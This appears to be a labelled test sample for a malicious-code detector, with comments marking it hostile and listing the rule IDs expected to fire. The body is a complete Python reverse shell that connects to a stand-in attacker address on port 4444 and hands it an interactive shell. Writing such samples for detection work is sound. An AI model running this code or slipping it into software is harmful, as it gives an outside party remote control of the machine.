# label: hostile
# expect: V201 V301
# note: The classic reverse shell: a socket is laid over the standard streams and a shell is started.
# allow: V101
import socket
import subprocess
import os

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("192.0.2.66", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
p = subprocess.call(["/bin/sh", "-i"])
